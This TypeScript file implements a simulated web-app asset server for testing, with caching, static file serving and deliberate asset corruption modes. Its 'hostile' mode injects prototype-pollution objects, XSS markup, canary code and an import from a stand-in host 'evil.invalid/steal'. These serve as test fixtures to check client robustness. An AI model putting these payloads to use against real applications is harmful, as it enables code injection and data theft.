import { createHash } from 'node:crypto';
import { readFile, stat } from 'node:fs/promises';
import type { IncomingMessage, OutgoingHttpHeaders, ServerResponse } from 'node:http';
import { extname, resolve, sep } from 'node:path';
import { send, sendEmpty, sendJson } from './http-util.js';
import type { AssetCorruption, SimWebApp, WebAppChanges, WebAppInfo } from './types.js';
import { DESCRIPTION, type WebAppDescription } from './webapp/description.js';
import { generateWebApp, type WebAppBuild } from './webapp/generate.js';
import { renderLandingPage } from './webapp/landing.js';

const TYPES: Record<string, string> = {
  '.js': 'text/javascript; charset=utf-8',
  '.mjs': 'text/javascript; charset=utf-8',
  '.cjs': 'text/javascript; charset=utf-8',
  '.html': 'text/html; charset=utf-8',
  '.css': 'text/css; charset=utf-8',
  '.json': 'application/json; charset=utf-8',
  '.map': 'application/json; charset=utf-8',
  '.png': 'image/png',
  '.svg': 'image/svg+xml',
  '.ico': 'image/x-icon',
  '.txt': 'text/plain; charset=utf-8',
  '.wasm': 'application/wasm',
};

/** Content type of a file name (`application/octet-stream` when unknown). */
export function contentTypeOf(file: string): string {
  return TYPES[extname(file).toLowerCase()] ?? 'application/octet-stream';
}

interface Asset {
  body: Buffer;
  type: string;
  etag: string;
  lastModified: string;
  status?: number;
}

function asset(body: string | Buffer, type: string, mtimeMs: number, status?: number): Asset {
  return {
    body: typeof body === 'string' ? Buffer.from(body) : body,
    type,
    etag: `"${createHash('sha1').update(body).digest('hex').slice(0, 16)}"`,
    lastModified: new Date(Math.floor(mtimeMs / 1000) * 1000).toUTCString(),
    ...(status === undefined ? {} : { status }),
  };
}

/** Answers 304 when the request's validators match. */
function notModified(req: IncomingMessage, etag: string, lastModified: string): boolean {
  const inm = req.headers['if-none-match'];
  if (typeof inm === 'string') {
    return inm.split(',').some((t) => t.trim().replace(/^W\//, '') === etag || t.trim() === '*');
  }
  const ims = req.headers['if-modified-since'];
  if (typeof ims === 'string') {
    const since = Date.parse(ims);
    return Number.isFinite(since) && Date.parse(lastModified) <= since;
  }
  return false;
}

function serveAsset(req: IncomingMessage, res: ServerResponse, a: Asset, extra: OutgoingHttpHeaders): void {
  const headers = { ...extra, ETag: a.etag, 'Last-Modified': a.lastModified, 'Cache-Control': 'no-cache' };
  if (notModified(req, a.etag, a.lastModified)) sendEmpty(res, 304, headers);
  else send(res, a.status ?? 200, req.method === 'HEAD' ? '' : a.body, a.type, headers);
}

/** A matched non-REST route. */
export interface AssetMatch {
  routeId: string;
  handle(req: IncomingMessage, res: ServerResponse, extra: OutgoingHttpHeaders): Promise<void> | void;
}

/** Options of {@link AssetServer}. */
export interface AssetServerOptions {
  /** Clock (ms since epoch); the first build's Last-Modified is its value at construction. */
  now: () => number;
  /** Benchmark padding of the web app (see `generateWebApp`). */
  scale?: number;
  /** Demo credentials shown on the landing page, or `null`. */
  demo: { email: string; password: string } | null;
}

const STATIC_NOTES: Record<string, string> = {
  '/examples': 'browser examples of the SDK',
  '/dashboard': 'the demo dashboard',
  '/dist': 'the SDK bundles',
};

const buildCache = new Map<string, WebAppBuild>();

/** The default description's build for (scale, build), memoized (generation is pure). */
function cachedBuild(scale: number, build: number): WebAppBuild {
  const key = `${scale}:${build}`;
  let b = buildCache.get(key);
  if (!b) {
    b = generateWebApp({ scale, build });
    if (buildCache.size >= 6) buildCache.delete(buildCache.keys().next().value as string);
    buildCache.set(key, b);
  }
  return b;
}

function applyLabels(d: WebAppDescription, labels: NonNullable<WebAppChanges['labels']>): WebAppDescription {
  return {
    ...d,
    symbols: d.symbols.map((s) => {
      const l = labels[s.symbol];
      return l ? { ...s, label: { pl: l.pl ?? s.label.pl, en: l.en ?? s.label.en } } : s;
    }),
  };
}

const JS_TYPE = TYPES['.js'] as string;
const HTML_TYPE = TYPES['.html'] as string;

/** 4 KiB of deterministic invalid UTF-8 and control bytes. */
function garbage(): Buffer {
  const out = Buffer.alloc(4096);
  let x = 0x9e3779b9;
  for (let i = 0; i < out.length; i++) {
    x = (Math.imul(x, 1664525) + 1013904223) >>> 0;
    out[i] = i % 7 === 0 ? 0xc3 : i % 11 === 0 ? 0x00 : i % 13 === 0 ? 0xff : x >>> 24;
  }
  return out;
}

/** Statements prepended by the `hostile` corruption. */
const HOSTILE =
  "const __hostile={'__proto__':{'polluted':!0},'constructor':{'prototype':{'polluted':!0}}," +
  "'PARAM_P4_1':{'__proto__':{'isAdmin':!0},'name':'parameters.PARAM_P4_1','value':[{'group':'P4','number':0x1,'use':'v'}]}," +
  "'label':'<img src=x onerror=\"globalThis.__bragerCanary=true\"><script>globalThis.__bragerCanary=true</script>'," +
  "'escapes':'\\u{110000}\\ud83d\\xZZ','valueFn':_0x1=>{globalThis['__bragerCanary']=!0;return _0x1;}};" +
  "globalThis['__bragerCanary']=!0;try{globalThis['process']['env']['BRAGER_CANARY']='executed';}catch(_0x2){}" +
  "const __hostileMenus=Object.assign({'../config/router/deviceMenu/7/0.ts':()=>d(()=>import('../../../v1/user-AAAAAAAA.js'),[])," +
  "'../config/router/deviceMenu/8/0.ts':()=>d(()=>import('https://evil.invalid/steal-BBBBBBBB.js'),[])});\n";

/** The synthetic web app of PROTOCOL §8 (generated from `webapp/description.ts`) plus static directories. */
export class AssetServer {
  readonly #files = new Map<string, Asset>();
  readonly #old = new Map<string, Asset>();
  readonly #statics = new Map<string, string>();
  readonly #corrupted = new Map<string, { mode: AssetCorruption; asset: Asset }>();
  #current: WebAppBuild;
  #description: WebAppDescription = DESCRIPTION;
  #mtime: number;
  /** Control surface exposed as `sim.webApp`. */
  readonly webApp: SimWebApp;

  /** Generates and installs the first build. */
  readonly #opts: AssetServerOptions;

  constructor(opts: AssetServerOptions) {
    this.#opts = opts;
    this.#mtime = opts.now();
    this.#current = cachedBuild(opts.scale ?? 0, 1);
    this.#install(false);
    const self = this;
    this.webApp = {
      get indexName() {
        return self.#current.indexName;
      },
      get build() {
        return self.#current.build;
      },
      info: () => this.#info(),
      text: (file) =>
        file === '/' ? this.#files.get('/')?.body.toString() : this.#current.assets.find((a) => a.file === file)?.body,
      publish: (changes) => this.#publish(changes),
      corrupt: (name, mode) => this.#corrupt(name, mode),
      restore: (name) => this.#restore(name),
    };
  }

  /** Name of the hashed index bundle, e.g. `index-AbC123xy.js`. */
  get indexName(): string {
    return this.#current.indexName;
  }

  #info(): WebAppInfo {
    const b = this.#current;
    return {
      build: b.build,
      scale: b.scale,
      indexName: b.indexName,
      assets: b.assets.map((a) => a.file),
      menus: { ...b.menus },
      i18n: { ...b.i18n },
      paramChunks: { ...b.paramChunks },
      stats: { ...b.stats },
    };
  }

  #install(keepOld: boolean): void {
    if (keepOld) {
      for (const [k, v] of this.#files) if (k !== '/') this.#old.set(k, v);
    } else this.#old.clear();
    this.#files.clear();
    this.#corrupted.clear();
    for (const a of this.#current.assets) this.#files.set(`/assets/${a.file}`, asset(a.body, JS_TYPE, this.#mtime));
    this.#renderRoot();
  }

  #renderRoot(): void {
    const links = [...this.#statics.keys()].map((prefix) => ({
      href: `${prefix}/`,
      title: `${prefix}/`,
      note: STATIC_NOTES[prefix] ?? 'static files',
    }));
    const html = renderLandingPage({
      indexName: this.#current.indexName,
      build: this.#current.build,
      assetCount: this.#current.assets.length,
      demo: this.#opts.demo,
      links,
    });
    this.#files.set('/', asset(html, HTML_TYPE, this.#mtime));
  }

  #publish(changes: WebAppChanges = {}): string {
    if (changes.labels) this.#description = applyLabels(this.#description, changes.labels);
    const build = this.#current.build + 1;
    const scale = this.#current.scale;
    this.#current =
      this.#description === DESCRIPTION
        ? cachedBuild(scale, build)
        : generateWebApp({ description: this.#description, scale, build });
    this.#mtime = Math.max(this.#opts.now(), this.#mtime + 1000);
    this.#install(changes.keepOld ?? false);
    return this.#current.indexName;
  }

  #corrupt(name: string, mode: AssetCorruption): string[] {
    const targets =
      name === '/' ? ['/'] : this.#current.assets.filter((a) => a.file === name || a.base === name).map((a) => a.file);
    for (const file of targets) {
      const path = file === '/' ? '/' : `/assets/${file}`;
      const a = this.#files.get(path);
      if (a)
        this.#corrupted.set(path, { mode, asset: corruptAsset(a, mode, this.#opts.now(), this.#current.indexName) });
    }
    return targets;
  }

  #restore(name?: string): void {
    if (name === undefined) {
      this.#corrupted.clear();
      return;
    }
    const files =
      name === '/'
        ? ['/']
        : this.#current.assets.filter((a) => a.file === name || a.base === name).map((a) => `/assets/${a.file}`);
    for (const f of files) this.#corrupted.delete(f);
  }

  /** Serves files of `dir` under `prefix` (e.g. `/dist`); the landing page links it. */
  addStatic(prefix: string, dir: string): void {
    const p = `/${prefix.replace(/^\/+|\/+$/g, '')}`;
    this.#statics.set(p, resolve(dir));
    this.#renderRoot();
  }

  /** Matches GET/HEAD requests for the web app or a static directory. */
  match(method: string, pathname: string): AssetMatch | null {
    if (method !== 'GET' && method !== 'HEAD') return null;
    if (pathname === '/' || pathname.startsWith('/assets/')) {
      const bad = this.#corrupted.get(pathname);
      const a = bad
        ? bad.mode === 'missing'
          ? undefined
          : bad.asset
        : (this.#files.get(pathname) ?? this.#old.get(pathname));
      const routeId = pathname === '/' ? 'GET /' : 'GET /assets/*';
      return {
        routeId,
        handle: (req, res, extra) =>
          a ? serveAsset(req, res, a, extra) : sendJson(res, 404, { message: 'Not found' }, extra),
      };
    }
    for (const [prefix, dir] of this.#statics) {
      if (pathname === prefix || pathname.startsWith(`${prefix}/`)) {
        const rel = pathname.slice(prefix.length);
        return { routeId: `GET ${prefix}/*`, handle: (req, res, extra) => this.#serveFile(req, res, dir, rel, extra) };
      }
    }
    return null;
  }

  async #serveFile(
    req: IncomingMessage,
    res: ServerResponse,
    dir: string,
    rel: string,
    extra: OutgoingHttpHeaders,
  ): Promise<void> {
    let file: string;
    try {
      file = resolve(dir, `.${decodeURIComponent(rel)}`);
    } catch {
      return sendJson(res, 400, { message: 'Bad path' }, extra);
    }
    if (file !== dir && !file.startsWith(dir + sep)) return sendJson(res, 404, { message: 'Not found' }, extra);
    try {
      let st = await stat(file);
      if (st.isDirectory()) {
        file = resolve(file, 'index.html');
        st = await stat(file);
      }
      const etag = `"${st.size.toString(16)}-${Math.floor(st.mtimeMs).toString(16)}"`;
      const lastModified = new Date(Math.floor(st.mtimeMs / 1000) * 1000).toUTCString();
      serveAsset(req, res, { body: await readFile(file), type: contentTypeOf(file), etag, lastModified }, extra);
    } catch {
      sendJson(res, 404, { message: 'Not found' }, extra);
    }
  }
}

function corruptAsset(a: Asset, mode: AssetCorruption, now: number, indexName: string): Asset {
  const text = a.body.toString();
  switch (mode) {
    case 'truncate':
      return asset(a.body.subarray(0, Math.floor(a.body.length / 2)), a.type, now);
    case 'garbage':
      return asset(garbage(), a.type, now);
    case 'empty':
    case 'missing':
      return asset('', a.type, now);
    case 'deep':
      return asset(`export default ${'['.repeat(50_000)}${']'.repeat(50_000)};\n`, a.type, now);
    case 'huge':
      return asset(`${text}\nconst __pad='${'A'.repeat(20 * 1024 * 1024)}';\n`, a.type, now);
    case 'hostile':
      return asset(HOSTILE + text, a.type, now);
    case 'html':
      return asset(
        `<!DOCTYPE html><html><head><script type="module" src="/assets/${indexName}"></script></head><body><div id="app"></div></body></html>\n`,
        HTML_TYPE,
        now,
      );
  }
}
